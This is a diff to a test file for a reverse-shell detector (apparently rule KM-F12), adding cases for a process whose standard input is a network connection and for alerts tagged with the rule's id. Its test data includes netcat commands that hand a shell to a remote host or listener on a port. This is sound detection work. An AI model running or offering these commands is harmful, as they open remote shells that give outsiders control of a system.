@@ -12,6 +12,17 @@ describe('KM-F12', () => {
     });
   });
 
+  test('sees a shell that began on a connection', () => {
+    const fields = { 'evt.type': 'execve', 'proc.stdin.name': '10.0.1.7:35648->203.0.113.9:4444' };
+    expect(found(fields)?.indicators).toEqual(['standard stream on a connection']);
+    expect(found({ ...fields, 'proc.stdin.name': '/dev/null' })).toBeUndefined();
+  });
+
+  test('takes the word of a rule that carries its id', () => {
+    const alert = falcoExample({}, { tags: ['KM-F12', 'mineguard'] });
+    expect(stdioRedirect.detect(alert)?.indicators).toEqual(['said by the rule']);
+  });
+
   test.each([
     ['ncat --sh-exec /bin/bash 203.0.113.9 443', ['netcat runs a program']],
     ['nc -lvnpe /bin/sh 4444', ['netcat runs a program']],
